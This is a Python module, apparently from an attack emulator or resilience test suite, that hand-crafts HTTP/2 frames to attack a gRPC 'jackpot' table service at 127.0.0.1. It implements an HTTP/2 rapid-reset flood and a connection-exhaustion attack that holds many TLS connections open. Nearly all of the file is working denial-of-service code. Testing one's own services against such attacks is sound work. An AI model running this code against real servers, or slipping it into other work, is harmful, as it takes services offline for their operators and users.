"""Attack the gRPC port, in HTTP/2 made by hand: calls that are reset, connections that are left."""

import select
import socket
import ssl
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from threading import Event
from typing import Self

from emulator.attacks.attack import Attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
MAX_CONCURRENT_STREAMS, MAX_HEADER_LIST_SIZE = 3, 6
END_HEADERS, ACK = 4, 1
CANCEL = struct.pack(">I", 8)
CALLS_AT_ONCE = 100


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def header(name: bytes, value: bytes) -> bytes:
    """A header that nobody has to remember."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


PLAY = b"".join(
    (
        header(b":method", b"POST"),
        header(b":scheme", b"https"),
        header(b":path", b"/jackpot.v1.TableService/Play"),
        header(b":authority", b"127.0.0.1"),
        header(b"content-type", b"application/grpc"),
        header(b"te", b"trailers"),
    )
)


class Resetting:
    """A connection that opens calls and resets them at once."""

    def __init__(self, host: str, port: int, tls: ssl.SSLContext) -> None:
        """Connect, and learn what the server allows."""
        plain = socket.create_connection((host, port), timeout=20)
        self._socket = tls.wrap_socket(plain, server_hostname=host)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        size, kind = struct.unpack(">IB", b"\0" + self._exactly(9)[:4])
        if kind != SETTINGS:
            raise ConnectionError(f"expected settings, got a frame of kind {kind}")
        self.settings: dict[int, int] = dict(struct.iter_unpack(">HI", self._exactly(size)))
        self._socket.sendall(frame(SETTINGS, ACK, 0))
        self._stream = 1

    def _exactly(self, size: int) -> bytes:
        found = b""
        while len(found) < size:
            if not (piece := self._socket.recv(size - len(found))):
                raise ConnectionError("the server hung up")
            found += piece
        return found

    def open_and_reset(self) -> None:
        """Some calls, each given up as soon as it is made."""
        sent = b""
        for _ in range(CALLS_AT_ONCE):
            sent += frame(HEADERS, END_HEADERS, self._stream, PLAY)
            sent += frame(RST_STREAM, 0, self._stream, CANCEL)
            self._stream += 2
        self._socket.sendall(sent)

    def throw_away(self) -> None:
        """Read what the server has answered; ConnectionError where it has hung up."""
        while self._socket.pending() or select.select([self._socket], [], [], 0)[0]:
            if not self._socket.recv(65_536):
                raise ConnectionError

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()


def resets(attack: Attack, began: Callable[[], None], ended: Event) -> int:
    """Calls that are opened and reset, and again whenever the server hangs up."""
    pace, tls = attack.pace(), attack.tls("h2")
    began()
    while not ended.is_set():
        with suppress(OSError), Resetting(*attack.where, tls) as client:
            while not ended.is_set():
                client.open_and_reset()
                wait_s = pace.due_s(CALLS_AT_ONCE)
                client.throw_away()
                time.sleep(wait_s)
        pace.wait(0)
    return pace.done


def connections(attack: Attack, began: Callable[[], None], ended: Event) -> int:
    """TLS connections that are opened and left, whatever the server then wants of them."""
    pace, tls, held = attack.pace(), attack.tls("h2"), list[ssl.SSLSocket]()
    while pace.done < attack.count and not ended.is_set():
        with suppress(OSError):
            plain = socket.create_connection(attack.where, timeout=20)
            held.append(tls.wrap_socket(plain, server_hostname=attack.where[0]))
            held[-1].sendall(PREFACE + frame(SETTINGS, 0, 0))
        pace.wait()
    began()
    ended.wait()
    return len(held)
